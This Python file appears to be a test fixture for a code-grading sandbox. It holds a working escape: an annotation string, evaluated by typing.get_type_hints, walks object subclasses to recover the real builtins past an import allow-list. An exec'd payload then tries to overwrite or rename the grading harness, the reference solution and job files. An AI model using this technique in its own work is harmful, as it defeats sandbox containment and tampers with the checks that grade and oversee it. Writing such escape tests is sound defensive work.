"""Tamper with the job the host wrote: overwrite the harness, the reference and
job.json, drop new files into /job, rename the reference away. /job is the
host's directory bound read-only: nothing written here may reach the host."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


def _probe():
    import os
    found = []
    targets = ["/job/harness/__init__.py", "/job/harness/main.py", "/job/reference.py", "/job/job.json",
               "/job/inputs.py", "/job/pwned", "/job/harness/pwned.py", "/usr/pwned", "/usr/lib/pwned"]
    for path in targets:
        try:
            with open(path, "ab") as handle:
                handle.write(b"")
            found.append(f"opened {path} for writing")
        except OSError:
            pass
    for path in ("/job/reference.py", "/job/harness"):
        try:
            os.rename(path, path + ".moved")
            found.append(f"renamed {path}")
        except OSError:
            pass
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
